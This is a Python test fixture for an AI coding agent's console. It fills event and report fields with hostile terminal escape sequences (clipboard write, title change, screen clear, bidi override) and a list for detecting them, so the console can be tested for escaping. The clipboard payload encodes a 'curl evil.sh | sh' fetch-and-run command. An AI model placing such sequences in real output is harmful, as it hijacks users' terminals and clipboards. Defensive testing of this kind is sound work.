"""What a hostile repository or model puts in names and messages to take over a terminal."""

from __future__ import annotations

from agent.protocol import AgentEvent, Report, TestRun, ToolCallRecord

OSC52 = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"  # writes the clipboard
TITLE = "\x1b]0;pwned\x07"  # sets the window title
CLEAR = "\x1bc\x1b[2J\x1b[H"  # resets and clears the screen
BIDI = "\u202e"  # right-to-left override: hides what a name really says
HOSTILE = OSC52 + TITLE + CLEAR + BIDI + "\r\b\x9b"

# None of these may reach the terminal raw; codebox's own styling uses SGR (ESC [ ... m) and,
# for the status line, cursor movement and line erasing (ESC [ ... A/K, ESC [ ? 25 l/h).
RAW_ATTACKS = (b"\x1b]", b"\x07", b"\x1bc", b"\x1b[2J", b"\x1b[H", "\u202e".encode(), b"\x08", "\x9b".encode())


def raw_attacks_in(output: bytes) -> list[bytes]:
    return [seq for seq in RAW_ATTACKS if seq in output]


def hostile_events() -> list[AgentEvent]:
    name = f"src/evil{HOSTILE}.py"
    data = [
        ("turn.start", 0, {"goal": "fix " + HOSTILE, "model": "m" + TITLE, "policy": "p", "repo": "/r" + CLEAR}),
        ("message", 1, {"text": "thinking " + OSC52, "final": False}),
        ("tool.start", 1, {"name": "apply_patch", "decision": "deny", "reason": f"{name!r} no", "summary": name}),
        ("tool.start", 2, {"name": "apply_patch", "decision": "allow", "summary": name}),
        ("tool.end", 2, {"name": "apply_patch", "decision": "allow", "is_error": False, "outcome": "ok",
                         "summary": name, "content": "", "data": {"diff": f"--- a/{name}\n+++ b/{name}\n+{OSC52}\n"}}),
        ("tool.end", 3, {"name": "run_test", "decision": "allow", "is_error": True, "outcome": "failed",
                         "summary": TITLE + " -k x", "content": f"FAILED tests/t.py::test_{CLEAR} - boom\n"}),
        ("model.retry", 4, {"attempt": 1, "wait_s": 1.0, "reason": "server said " + TITLE}),
        ("note", 4, {"text": "[codebox] " + OSC52}),
        ("model.error", 4, {"error": "bad " + CLEAR}),
        ("message", 5, {"text": "done " + HOSTILE, "final": True}),
        ("turn.end", 5, {"reason": "final_message", "status": "completed"}),
    ]
    return [AgentEvent(type=t, task_id="t" + TITLE, seq=i, step=s, data=d) for i, (t, s, d) in enumerate(data)]


def hostile_report() -> Report:
    return Report(
        task_id="t" + TITLE, goal="g" + HOSTILE, repo="/r", model="m" + OSC52, status="error",
        stop_reason="sandbox_error", final_message="all done" + HOSTILE + "\nsecond line" + CLEAR,
        error="it broke: " + HOSTILE, files_changed=[f"evil{OSC52}.py", f"b{CLEAR}.py"],
        # An outcome is one of a closed list once validated: constructed unvalidated here, the
        # console must escape it anyway (a report file edited by hand is not validated by a viewer).
        last_test=TestRun.model_construct(command=["pytest", TITLE, OSC52], outcome="failed" + CLEAR, exit_code=1,
                                          duration_s=0.0, failed_tests=[f"t.py::test_{HOSTILE}"]),
        tool_calls=[ToolCallRecord(call_id="c", name="x", decision="deny", ok=False, error=HOSTILE)],
        started_at=0.0, duration_s=1.0,
    )
